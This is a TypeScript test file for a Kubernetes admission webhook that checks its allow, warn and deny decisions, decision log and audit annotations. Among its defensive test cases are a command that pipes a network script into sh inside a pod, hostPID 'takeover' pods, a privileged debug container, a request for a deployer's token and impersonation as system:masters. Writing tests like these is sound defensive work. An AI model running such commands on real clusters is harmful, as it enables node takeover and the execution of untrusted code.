import { join } from 'node:path'
import t from 'tap'
import type { ProvenanceClass } from '../../src/decision-types.js'
import { soundDeployment, soundPod } from '../helpers/sound-pod.js'
import { refusal } from '../helpers/testbed/api-error.js'
import { startBalancer } from '../helpers/testbed/balancer.js'
import { createCertificateAuthority } from '../helpers/testbed/certificates.js'
import { startControlPlane } from '../helpers/testbed/control-plane.js'
import { createDecisionLogReader, foundPolicies, type JudgedRequest } from '../helpers/testbed/decision-log.js'
import type { Manifest } from '../helpers/testbed/api-objects.js'
import { waitFor } from '../helpers/testbed/processes.js'
import { createTestbed } from '../helpers/testbed/testbed.js'
import { ALICE } from '../helpers/testbed/users.js'
import { installWebhookAccount, startWebhook } from '../helpers/testbed/webhook.js'

// The webhook in front of a real API server, registered by itself and with the rights that the manifests give it: what people do, and
// what they and the decision log are told.

const bed = createTestbed(t)
const plane = await startControlPlane(bed, {
  extraArgs: [
    // The API server's own Pod Security would answer before any webhook is asked.
    '--disable-admission-plugins=PodSecurity',
    '--runtime-config=api/all=true',
  ],
})
await installWebhookAccount(plane)
await plane.admin.create({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name: 'alice' },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: ALICE.name }],
})
await plane.createNamespace('shop', { labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } })
await plane.createNamespace('sandbox')
await plane.createNamespace('argocd')
const deployer = { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'argocd-application-controller' } }
await plane.admin.create({ ...deployer, metadata: { ...deployer.metadata, namespace: 'argocd' } })
const DEPLOYER = 'system:serviceaccount:argocd:argocd-application-controller'

const logFile = join(bed.directory, 'decisions.jsonl')
const decisions = createDecisionLogReader(logFile)
const balancer = await startBalancer(bed)
const webhook = await startWebhook(bed, plane, {
  name: 'webhook',
  urlPort: balancer.port,
  args: ['--decision-log', logFile, '--exempt-namespace', 'sandbox'],
})
balancer.add(webhook.backend)
const alice = plane.client(ALICE)

const ENFORCE = 'pod-security.kubernetes.io/enforce'
const PROTECTED = 'policy.lockkeeper.dev/protected'
const namespace = (name: string, labels: object = {}): Manifest => ({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: { name, labels },
})
const hostPid = (name: string, namespace: string): Manifest => soundPod(name, namespace, { hostPID: true })
await waitFor('the webhook is asked', async () => {
  try {
    await plane.admin.create(hostPid('probe', 'shop'), { dryRun: true })
    return false
  } catch (error) {
    return (error as Error).message.includes('[host_namespaces]')
  }
})
await decisions.take()

/** Below a denial; what the model says changes with each training. */
const RISK_LINE = /\nrisk \d\.\d\d (?:elevated|high) \(threshold \d\.\d\d\): [^\n]+/g

/** What was judged, in one line each. */
function line({ request, decision }: JudgedRequest): string {
  const { operation, kind, resource, subResource, namespace, name, dryRun } = request
  const version = [kind.group, kind.version].filter(each => each !== '').join('/')
  const about = `${resource.resource}${subResource === '' ? '' : `/${subResource}`}`
  const place = [namespace, name].filter(each => each !== '').join('/')
  // What the model says changes with each training.
  const found = foundPolicies(decision)
    .filter(each => !each.startsWith('risk_threshold='))
    .join(' ')
  const notes = [dryRun ? 'dry run' : '', decision.unchanged ? 'unchanged' : ''].filter(each => each !== '').join(', ')
  return `${operation} ${version}/${kind.kind} ${about} ${place}${notes && ` (${notes})`}: ${decision.action} [${found}] ${decision.provenance.class}`
}

interface Case {
  /** What kubectl is called with, and its standard input. */
  readonly kubectl: readonly string[]
  readonly input?: Manifest
  /** Who is asked for in the decision log; the caller when not said. */
  readonly actor?: string
  /** Of whom asks, as far as she tells by herself. */
  readonly provenance?: ProvenanceClass
  readonly status: number
  /** null: the deleted objects, as they were. */
  readonly stdout?: string | null
  readonly stderr?: string
  readonly judged: readonly string[]
}

const DENIED = 'admission webhook "namespaced.lockkeeper.dev" denied the request:'
const HOST_PID =
  '[host_namespaces] hostPID is true: the pod sees and can signal every process of the node, and reads their environment (fix: remove hostPID)'
const LATEST =
  '[image_tag] container "web": image "registry.k8s.io/pause:latest" has the tag latest, which is moved with every release (fix: name a fixed version, best with its digest: name:1.2.3@sha256:…)'
const ON_CREATE = 'Error from server (Forbidden): error when creating "STDIN":'
const DEBUGGER =
  'Warning: [debug_container] the user "alice" puts the debug container "debugger" into the running pod web (fix: delete the pod when the work is done: only then is the container gone)'
const KEPT =
  '[protected_deletion] the ConfigMap kept is protected by the label policy.lockkeeper.dev/protected (fix: take the label off in Git first)'
/** A policy of the moment of its creation stays with an object. */
const PULL_POLICY =
  '[image_pull_policy] container "web": imagePullPolicy is IfNotPresent: the tag moves, so each node runs what it pulled first (fix: name a fixed version, or pull always)'
const latest = { image: 'registry.k8s.io/pause:latest' }

/** Each goes on from what those before it left. */
const CASES: Readonly<Record<string, Case>> = {
  'what no policy minds is created without a word': {
    kubectl: ['create', '-f', '-'],
    input: soundPod('web', 'shop'),
    status: 0,
    stdout: 'pod/web created\n',
    judged: ['CREATE v1/Pod pods shop/web: allow []'],
  },
  'a denial says why, and how to mend it': {
    kubectl: ['create', '-f', '-'],
    input: hostPid('takeover', 'shop'),
    status: 1,
    stderr: `${ON_CREATE} ${DENIED} ${HOST_PID}\n`,
    judged: ['CREATE v1/Pod pods shop/takeover: deny [host_namespaces=deny]'],
  },
  'a dry run is judged like what it tries': {
    kubectl: ['create', '--dry-run=server', '-f', '-'],
    input: hostPid('takeover', 'shop'),
    status: 1,
    stderr: `${ON_CREATE} ${DENIED} ${HOST_PID}\n`,
    judged: ['CREATE v1/Pod pods shop/takeover (dry run): deny [host_namespaces=deny]'],
  },
  'a warning comes with what is created': {
    kubectl: ['create', '-f', '-'],
    input: soundPod('latest', 'shop', {}, latest),
    status: 0,
    stdout: 'pod/latest created\n',
    stderr: `Warning: ${LATEST}\n`,
    judged: ['CREATE v1/Pod pods shop/latest: warn [image_tag=warn]'],
  },
  'a strategic merge patch is judged by what comes of it': {
    kubectl: ['label', '-n', 'shop', 'pod', 'latest', 'tier=front'],
    status: 0,
    stdout: 'pod/latest labeled\n',
    stderr: `Warning: ${LATEST}\n`,
    judged: ['UPDATE v1/Pod pods shop/latest: warn [image_tag=warn]'],
  },
  'client-side apply creates': {
    kubectl: ['apply', '-f', '-'],
    input: soundDeployment('site', 'shop'),
    status: 0,
    stdout: 'deployment.apps/site created\n',
    judged: ['CREATE apps/v1/Deployment deployments shop/site: allow []'],
  },
  'client-side apply changes': {
    kubectl: ['apply', '-f', '-'],
    input: soundDeployment('site', 'shop', {}, latest),
    status: 0,
    stdout: 'deployment.apps/site configured\n',
    stderr: `Warning: ${LATEST}\nWarning: ${PULL_POLICY}\n`,
    judged: ['UPDATE apps/v1/Deployment deployments shop/site: warn [image_pull_policy=warn image_tag=warn]'],
  },
  replace: {
    kubectl: ['replace', '-f', '-'],
    input: soundDeployment('site', 'shop', { hostPID: true }),
    status: 1,
    stderr: `Error from server (Forbidden): error when replacing "STDIN": ${DENIED} ${HOST_PID}\n`,
    judged: ['UPDATE apps/v1/Deployment deployments shop/site: deny [host_namespaces=deny]'],
  },
  'server-side apply creates': {
    kubectl: ['apply', '--server-side', '-f', '-'],
    input: soundDeployment('api', 'shop', {}, latest),
    status: 0,
    stdout: 'deployment.apps/api serverside-applied\n',
    stderr: `Warning: ${LATEST}\n`,
    judged: ['CREATE apps/v1/Deployment deployments shop/api: warn [image_tag=warn]'],
  },
  'server-side apply of the same again changes nothing, and no policy is asked': {
    kubectl: ['apply', '--server-side', '-f', '-'],
    input: soundDeployment('api', 'shop', {}, latest),
    status: 0,
    stdout: 'deployment.apps/api serverside-applied\n',
    judged: ['UPDATE apps/v1/Deployment deployments shop/api (unchanged): allow []'],
  },
  'server-side apply changes': {
    kubectl: ['apply', '--server-side', '-f', '-'],
    input: soundDeployment('api', 'shop', { hostPID: true }),
    status: 1,
    stderr: `Error from server (Forbidden): ${DENIED} ${HOST_PID}\n`,
    judged: ['UPDATE apps/v1/Deployment deployments shop/api: deny [host_namespaces=deny]'],
  },
  'a JSON patch': {
    kubectl: [
      ...['patch', '-n', 'shop', 'deployment', 'api', '--type=json', '-p'],
      '[{"op":"add","path":"/spec/template/spec/hostPID","value":true}]',
    ],
    status: 1,
    stderr: `Warning: ${LATEST}\nError from server (Forbidden): ${DENIED} ${HOST_PID}\n`,
    judged: ['UPDATE apps/v1/Deployment deployments shop/api: deny [host_namespaces=deny image_tag=warn]'],
  },
  'a merge patch': {
    kubectl: [
      ...['patch', '-n', 'shop', 'deployment', 'api', '--type=merge', '-p', '{"metadata":{"labels":{"team":"a"}}}'],
      '--dry-run=server',
    ],
    status: 0,
    stdout: 'deployment.apps/api patched\n',
    stderr: `Warning: ${LATEST}\n`,
    judged: ['UPDATE apps/v1/Deployment deployments shop/api (dry run): warn [image_tag=warn]'],
  },
  scale: {
    kubectl: ['scale', '-n', 'shop', 'deployment', 'api', '--replicas=0'],
    status: 0,
    stdout: 'deployment.apps/api scaled\n',
    stderr:
      'Warning: [scale_to_zero] this change takes all replicas away: 1 before, 0 after it (fix: keep one replica, or delete the workload where it is not needed any more)\n',
    judged: ['UPDATE autoscaling/v1/Scale deployments/scale shop/api: warn [scale_to_zero=warn]'],
  },
  // kubectl asks by WebSocket first, and by SPDY when that is refused.
  'exec of a script from the network': {
    kubectl: ['exec', '-n', 'shop', 'web', '--', 'sh', '-c', 'curl -s http://example.com/x.sh | sh'],
    status: 1,
    stderr: `error: unable to upgrade connection: ${DENIED} [pod_exec] the user "alice" runs a script from the network that is run at once in container "web" of the pod web: what it does today is up to its server (fix: build what is needed into the image)\n`,
    judged: Array<string>(2).fill('CONNECT v1/PodExecOptions pods/exec shop/web: deny [pod_exec=deny]'),
  },
  'exec of anything else ends only because there is no node': {
    kubectl: ['exec', '-n', 'shop', 'web', '--', 'ls', '/'],
    status: 1,
    stderr: 'error: unable to upgrade connection: pod web does not have a host assigned\n',
    judged: Array<string>(2).fill('CONNECT v1/PodExecOptions pods/exec shop/web: allow []'),
  },
  attach: {
    kubectl: ['attach', '-n', 'shop', 'web', '--quiet'],
    status: 1,
    stderr: 'error: unable to upgrade connection: pod web does not have a host assigned\n',
    judged: Array<string>(2).fill('CONNECT v1/PodAttachOptions pods/attach shop/web: allow []'),
  },
  'an ephemeral container with the rights of the node': {
    kubectl: [
      ...['debug', '-n', 'shop', 'pod/web', '--image=busybox:1.36', '-c', 'debugger', '--profile=sysadmin'],
      ...['--quiet', '--attach=false', '--', 'sleep', '1'],
    ],
    status: 1,
    stderr: `${[
      'Warning: Non-root user is configured for the entire target Pod, and some capabilities granted by debug profile may not work. Please consider using "--custom" with a custom profile that specifies "securityContext.runAsUser: 0".',
      DEBUGGER,
      'Warning: [capabilities_restricted] ephemeral container "debugger" keeps capabilities that the container runtime gives: it does not drop ALL (fix: set capabilities.drop to [ALL], and add NET_BIND_SERVICE if it listens on a port below 1024)',
      'Warning: [privilege_escalation] ephemeral container "debugger" can gain rights that it was not started with: allowPrivilegeEscalation is not false (fix: take privileged and SYS_ADMIN away, then set allowPrivilegeEscalation to false)',
      `Error from server (Forbidden): ${DENIED} [privileged_containers] ephemeral container "debugger" is privileged: it can do everything the node's root can (fix: set privileged to false; if the program needs a kernel feature, add that one capability instead)`,
      '[debug_container] debug container "debugger" is privileged: it is root on the node (fix: debug with kubectl debug --profile=restricted, or --profile=baseline)',
    ].join('\n')}\n`,
    judged: [
      'UPDATE v1/Pod pods/ephemeralcontainers shop/web: deny [capabilities_restricted=warn debug_container=deny debug_container=warn privilege_escalation=warn privileged_containers=deny]',
    ],
  },
  'an ephemeral container': {
    kubectl: [
      ...['debug', '-n', 'shop', 'pod/web', '--image=busybox:1.36', '-c', 'debugger', '--profile=restricted'],
      ...['--quiet', '--attach=false', '--', 'sleep', '1'],
    ],
    status: 0,
    stderr: `${DEBUGGER}\n`,
    judged: ['UPDATE v1/Pod pods/ephemeralcontainers shop/web: warn [debug_container=warn]'],
  },
  'a token of the deployer': {
    kubectl: ['create', 'token', '-n', 'argocd', 'argocd-application-controller'],
    status: 1,
    stderr: `error: failed to create token: ${DENIED} [token_request] the user "alice" asks for a token of argocd/argocd-application-controller, with which any change passes for one from Git (fix: deploy through Git; ask for a token of an account of one's own)\n`,
    judged: [
      'CREATE authentication.k8s.io/v1/TokenRequest serviceaccounts/token argocd/argocd-application-controller: deny [token_request=deny]',
    ],
  },
  'a token for very long': {
    kubectl: ['create', 'token', '-n', 'shop', 'default', '--duration=48h', '-o', 'jsonpath={.kind}'],
    status: 0,
    stdout: 'TokenRequest',
    stderr:
      'Warning: [token_request] the user "alice" asks for a token of shop/default for 48 hours; a token cannot be taken back (fix: ask for at most 86400 seconds, and again when it ends)\n',
    judged: [
      'CREATE authentication.k8s.io/v1/TokenRequest serviceaccounts/token shop/default: warn [token_request=warn]',
    ],
  },
  'DELETE of what a label protects': {
    kubectl: ['delete', '-n', 'shop', 'configmap', 'kept'],
    status: 1,
    stderr: `Error from server (Forbidden): ${DENIED} ${KEPT}\n`,
    judged: ['DELETE v1/ConfigMap configmaps shop/kept: deny [protected_deletion=deny]'],
  },
  'deletecollection asks about each object, which has its name': {
    kubectl: ['delete', '--raw', '/api/v1/namespaces/shop/configmaps?labelSelector=app%3Dweb'],
    status: 1,
    stderr: `Error from server (Forbidden): ${DENIED} ${KEPT}\n`,
    judged: ['DELETE v1/ConfigMap configmaps shop/kept: deny [protected_deletion=deny]'],
  },
  'deletecollection of what a name protects': {
    kubectl: ['delete', '--raw', '/api/v1/namespaces/argocd/secrets'],
    status: 0,
    stdout: null,
    stderr:
      'Warning: [gitops_configuration] the user "alice" deletes the Secret argocd-secret: it holds the key that Argo CD signs sessions with (fix: make the change in Git, sealed or from a secret store where it is a Secret)\n',
    judged: ['DELETE v1/Secret secrets argocd/argocd-secret: warn [gitops_configuration=warn]'],
  },
  'DELETE of anything else': {
    kubectl: ['delete', '-n', 'shop', 'configmap', 'spare'],
    status: 0,
    stdout: 'configmap "spare" deleted from shop namespace\n',
    judged: ['DELETE v1/ConfigMap configmaps shop/spare: allow []'],
  },
  'whoever impersonates is judged as whom the API server takes her for': {
    kubectl: ['create', '-f', '-', `--as=${DEPLOYER}`, '--as-group=system:masters'],
    input: hostPid('takeover', 'shop'),
    actor: DEPLOYER,
    provenance: 'in-band-ungated',
    status: 1,
    stderr: `${ON_CREATE} ${DENIED} ${HOST_PID}\n`,
    judged: ['CREATE v1/Pod pods shop/takeover: deny [host_namespaces=deny]'],
  },
  'a namespace that would leave the gate by a label of its own': {
    kubectl: ['create', '-f', '-'],
    input: namespace('outlaw', { 'policy.lockkeeper.dev/ignore': 'true' }),
    status: 1,
    stderr: `${ON_CREATE} admission webhook "cluster.lockkeeper.dev" denied the request: [exemption_labels] the label policy.lockkeeper.dev/ignore takes the namespace "outlaw" out of policy (fix: remove the label policy.lockkeeper.dev/ignore, and except the one object that needs it)\n`,
    judged: ['CREATE v1/Namespace namespaces outlaw/outlaw: deny [exemption_labels=deny]'],
  },
  'a namespace that takes the name of an exempt one in a label gets its own back': {
    kubectl: ['create', '-f', '-', '-o', 'jsonpath={.metadata.labels}'],
    input: namespace('outlaw', { 'kubernetes.io/metadata.name': 'sandbox', [ENFORCE]: 'baseline' }),
    status: 0,
    stdout: '{"kubernetes.io/metadata.name":"outlaw","pod-security.kubernetes.io/enforce":"baseline"}',
    judged: ['CREATE v1/Namespace namespaces outlaw/outlaw: allow []'],
  },
  'so what is in it is judged': {
    kubectl: ['create', '--dry-run=server', '-f', '-'],
    input: soundDeployment('takeover', 'outlaw', { hostPID: true }),
    status: 1,
    stderr: `${ON_CREATE} ${DENIED} ${HOST_PID}\n`,
    judged: ['CREATE apps/v1/Deployment deployments outlaw/takeover (dry run): deny [host_namespaces=deny]'],
  },
  'what is in a namespace that a flag exempts is not': {
    kubectl: ['create', '-f', '-'],
    input: hostPid('takeover', 'sandbox'),
    status: 0,
    stdout: 'pod/takeover created\n',
    judged: [],
  },
  'the exempt namespace itself is': {
    kubectl: ['label', 'namespace', 'sandbox', `${ENFORCE}=privileged`],
    status: 0,
    stdout: 'namespace/sandbox labeled\n',
    stderr:
      'Warning: [pod_security_downgrade] namespace "sandbox" gets the Pod Security level privileged: its pods may take over their nodes (fix: use the level baseline or restricted, and give the pods that need more a namespace of their own)\n',
    judged: ['UPDATE v1/Namespace namespaces sandbox/sandbox: warn [pod_security_downgrade=warn]'],
  },
  'a lease is nobody’s business': {
    kubectl: ['create', '-f', '-'],
    input: {
      apiVersion: 'coordination.k8s.io/v1',
      kind: 'Lease',
      metadata: { name: 'leader', namespace: 'shop' },
      spec: { holderIdentity: 'alice', leaseDurationSeconds: 15 },
    },
    status: 0,
    stdout: 'lease.coordination.k8s.io/leader created\n',
    judged: [],
  },
  'nor is an Event': {
    kubectl: ['create', '-f', '-'],
    input: {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'note', namespace: 'shop' },
      involvedObject: { apiVersion: 'v1', kind: 'Pod', name: 'web', namespace: 'shop' },
      reason: 'Seen',
      message: 'it was seen',
    },
    status: 0,
    stdout: 'event/note created\n',
    judged: [],
  },
  'nor is a question to the API server': {
    kubectl: ['auth', 'can-i', 'create', 'pods', '-n', 'shop'],
    status: 0,
    stdout: 'yes\n',
    judged: [],
  },
  'and what comes after them is judged again': {
    kubectl: ['create', '-f', '-'],
    input: soundPod('last', 'shop'),
    status: 0,
    stdout: 'pod/last created\n',
    judged: ['CREATE v1/Pod pods shop/last: allow []'],
  },
}

const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'argocd-secret', namespace: 'argocd' } }
await plane.admin.create(secret)
for (const name of ['kept', 'spare']) {
  const labels = { app: 'web', ...(name === 'kept' && { [PROTECTED]: 'true' }) }
  await plane.admin.create({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'shop', labels } })
}

/** All that was judged in the cases. */
const judged: JudgedRequest[] = []

for (const [
  name,
  { kubectl, input, actor = ALICE.name, provenance = 'out-of-band-unmanaged', ...expected },
] of Object.entries(CASES)) {
  t.test(name, async t => {
    const answer = await plane.kubectl(kubectl, { as: ALICE, ...(input && { input: JSON.stringify(input) }) })
    const result = { ...answer, stderr: answer.stderr.replace(RISK_LINE, '') }
    const { status, stdout = '', stderr = '' } = expected
    t.strictSame(result, { status, stdout: stdout ?? result.stdout, stderr })
    const found = await decisions.await(expected.judged.length, each => each.user === actor)
    t.strictSame(found.map(line).sort(), expected.judged.map(each => `${each} ${provenance}`).sort())
    judged.push(...found)
  })
}

t.test('the audit log says the same of each of them', async t => {
  const byId = new Map(judged.map(each => [each.decision.id, each]))
  const audited = new Set<string>()
  for (const { annotations = {}, responseStatus, user, impersonatedUser } of await plane.audit()) {
    const [key = ''] = Object.keys(annotations).filter(each => each.endsWith('.lockkeeper.dev/decision-id'))
    const found = byId.get(annotations[key] ?? '')
    if (found === undefined || user.username !== ALICE.name) continue
    const { decision, request } = found
    const entry = key.slice(0, -'/decision-id'.length)
    const ours = Object.entries(annotations).filter(([name]) => name.startsWith(`${entry}/`))
    const [bundleDigest = ''] = ours.filter(([name]) => name.endsWith('/bundle-digest')).map(([, value]) => value)
    t.match(bundleDigest, /^sha256:[0-9a-f]{64}$|^[0-9a-f]{64}$/)
    const degraded = decision.degraded.map(({ code }) => code).join()
    t.strictSame(
      Object.fromEntries(ours),
      {
        [`${entry}/decision-id`]: decision.id,
        [`${entry}/bundle-digest`]: bundleDigest,
        [`${entry}/action`]: decision.action,
        [`${entry}/provenance`]: decision.provenance.class,
        ...(degraded === '' ? {} : { [`${entry}/degraded`]: degraded }),
      },
      line(found),
    )
    t.equal(entry, request.kind.kind === 'Namespace' ? 'cluster.lockkeeper.dev' : 'namespaced.lockkeeper.dev')
    if (decision.action === 'deny') t.equal(responseStatus?.code, 403)
    if (found.user === DEPLOYER) t.equal(impersonatedUser?.username, DEPLOYER)
    audited.add(decision.id)
  }
  t.strictSame([...audited].sort(), [...byId.keys()].sort())
})

const claim = { devices: { requests: [{ name: 'gpu', exactly: { deviceClassName: 'gpu' } }] } }
/** An object of each kind of which the API server serves several versions. */
const EXAMPLES: Readonly<Record<string, Manifest>> = {
  'HorizontalPodAutoscaler.autoscaling': {
    apiVersion: 'autoscaling/v2',
    kind: 'HorizontalPodAutoscaler',
    metadata: { name: 'api', namespace: 'shop' },
    spec: {
      scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'api' },
      minReplicas: 1,
      maxReplicas: 3,
    },
  },
  'ClusterTrustBundle.certificates.k8s.io': {
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'ClusterTrustBundle',
    metadata: { name: 'versions' },
    spec: { trustBundle: createCertificateAuthority().certificate },
  },
  'DeviceClass.resource.k8s.io': resource('DeviceClass', {
    selectors: [{ cel: { expression: 'device.driver == "gpu.example"' } }],
  }),
  'DeviceTaintRule.resource.k8s.io': resource('DeviceTaintRule', {
    deviceSelector: { driver: 'gpu.example' },
    taint: { key: 'example/broken', value: 'yes', effect: 'NoSchedule' },
  }),
  'ResourceClaim.resource.k8s.io': resource('ResourceClaim', claim, 'shop'),
  'ResourceClaimTemplate.resource.k8s.io': resource('ResourceClaimTemplate', { spec: claim }, 'shop'),
  'ResourceSlice.resource.k8s.io': resource('ResourceSlice', {
    driver: 'gpu.example',
    nodeName: 'node-1',
    pool: { name: 'pool', generation: 1, resourceSliceCount: 1 },
  }),
  'StorageVersionMigration.storagemigration.k8s.io': {
    apiVersion: 'storagemigration.k8s.io/v1',
    kind: 'StorageVersionMigration',
    metadata: { name: 'versions' },
    spec: { resource: { group: 'apps', resource: 'deployments' } },
  },
}

/** The rest, and why there is no example. */
const NOT_JUDGED: Readonly<Record<string, string>> = {
  'LeaseCandidate.coordination.k8s.io': 'left out, like Leases',
  'MutatingAdmissionPolicy.admissionregistration.k8s.io': 'no webhook is asked',
  'MutatingAdmissionPolicyBinding.admissionregistration.k8s.io': 'no webhook is asked',
  'PodCertificateRequest.certificates.k8s.io': 'only a node can make one',
}

function resource(kind: string, spec: object, namespace?: string): Manifest {
  return {
    apiVersion: 'resource.k8s.io/v1',
    kind,
    metadata: { name: 'versions', ...(namespace && { namespace }) },
    spec,
  }
}

t.test('every served version of a kind is judged alike', async t => {
  const served = await kindsOfSeveralVersions()
  t.strictSame([...served.keys()].sort(), [...Object.keys(EXAMPLES), ...Object.keys(NOT_JUDGED)].sort())
  for (const [key, versions] of served) {
    const example = EXAMPLES[key]
    if (example === undefined) continue
    const labels = { [PROTECTED]: 'true' }
    const { kind, metadata } = await alice.create({ ...example, metadata: { ...example.metadata, labels } })
    const target = { kind, name: metadata.name, namespace: metadata.namespace ?? '' }
    const message = `admission webhook "${metadata.namespace === undefined ? 'cluster' : 'namespaced'}.lockkeeper.dev" denied the request: [protected_deletion] the user "alice" takes the label ${PROTECTED} off the ${kind} ${metadata.name} (fix: take the label off in Git)`
    for (const apiVersion of versions) {
      const patch = { metadata: { labels: { [PROTECTED]: null } } }
      const refused = await refusal(alice.patch({ apiVersion, ...target }, patch, { dryRun: true }))
      t.strictSame(refused, { status: 403, reason: 'Forbidden', message }, `${kind} as ${apiVersion}`)
    }
    const found = await decisions.await(versions.length, ({ request }) => request.dryRun && request.kind.kind === kind)
    t.strictSame(
      found.map(({ request: { kind: asked }, decision }) => ({
        version: `${asked.group}/${asked.version}`,
        action: decision.action,
        // That a version is deprecated is the one thing that is true of one version only.
        found: foundPolicies(decision).filter(each => !each.startsWith('deprecated_api_versions=')),
      })),
      versions.map(version => ({ version, action: 'deny', found: ['protected_deletion=deny'] })),
      key,
    )
  }
})

const LEVELS = [
  { level: null, action: 'warn', found: ['host_namespaces=warn'] },
  { level: 'privileged', action: 'allow', found: [] },
  { level: 'baseline', action: 'deny', found: ['host_namespaces=deny'] },
  { level: 'restricted', action: 'deny', found: ['host_namespaces=deny'] },
]
const ROUNDS = 10
const AT_ONCE = 4

t.test('the labels of a new namespace count from its first object on', async t => {
  for (let round = 0; round < ROUNDS; round += 1) {
    for (const { level, action, found } of LEVELS) {
      const name = `new-${level ?? 'none'}-${round}`
      await alice.create(namespace(name, level === null ? {} : { [ENFORCE]: level }))
      const objects = Array.from({ length: AT_ONCE }, (_, each) => soundDeployment(`d${each}`, name, { hostPID: true }))
      const refusals = await Promise.all(objects.map(each => refusal(alice.create(each, { dryRun: true }))))
      const judged = await decisions.await(AT_ONCE, ({ request }) => request.namespace === name && request.dryRun)
      t.strictSame(
        {
          denied: refusals.map(each => each !== null),
          judged: judged.map(({ decision }) => [decision.action, foundPolicies(decision)]),
        },
        { denied: objects.map(() => action === 'deny'), judged: objects.map(() => [action, found]) },
        name,
      )
    }
  }
})

t.test('a changed label counts on all threads at once', async t => {
  for (let round = 0; round < ROUNDS; round += 1) {
    const name = `tightened-${round}`
    const isDenied = async (): Promise<boolean> =>
      (await refusal(alice.create(soundDeployment('d', name, { hostPID: true }), { dryRun: true }))) !== null
    await alice.create(namespace(name))
    t.strictSame(await Promise.all(Array.from({ length: AT_ONCE }, isDenied)), Array<boolean>(AT_ONCE).fill(false))
    const labels = { [ENFORCE]: 'baseline' }
    await alice.patch({ apiVersion: 'v1', kind: 'Namespace', name }, { metadata: { labels } })
    await waitFor(`the level of ${name} counts`, isDenied, { everyMs: 1 })
    t.strictSame(
      await Promise.all(Array.from({ length: 4 * AT_ONCE }, isDenied)),
      Array<boolean>(4 * AT_ONCE).fill(true),
    )
  }
})

t.test('the process is still the one that was started', async t => {
  t.equal(await Promise.race([webhook.process.exited, Promise.resolve('running')]), 'running')
  const metrics = await webhook.metrics()
  t.notMatch(metrics, /^lockkeeper_decision_log_dropped_total [1-9]/m)
})

/** `Kind.group` of all kinds that can be created in more than one version, with the versions. */
async function kindsOfSeveralVersions(): Promise<ReadonlyMap<string, readonly string[]>> {
  const { body } = await plane.admin.request('GET', '/apis')
  const { groups } = body as { groups: { name: string; versions: { groupVersion: string }[] }[] }
  const kinds = new Map<string, string[]>()
  for (const { name, versions } of groups) {
    for (const { groupVersion } of versions) {
      const { body } = await plane.admin.request('GET', `/apis/${groupVersion}`)
      const { resources } = body as { resources: { name: string; kind: string; verbs: string[] }[] }
      for (const { name: resource, kind, verbs } of resources) {
        if (resource.includes('/') || !verbs.includes('create')) continue
        kinds.set(`${kind}.${name}`, [...(kinds.get(`${kind}.${name}`) ?? []), groupVersion])
      }
    }
  }
  return new Map([...kinds].filter(([, versions]) => versions.length > 1))
}
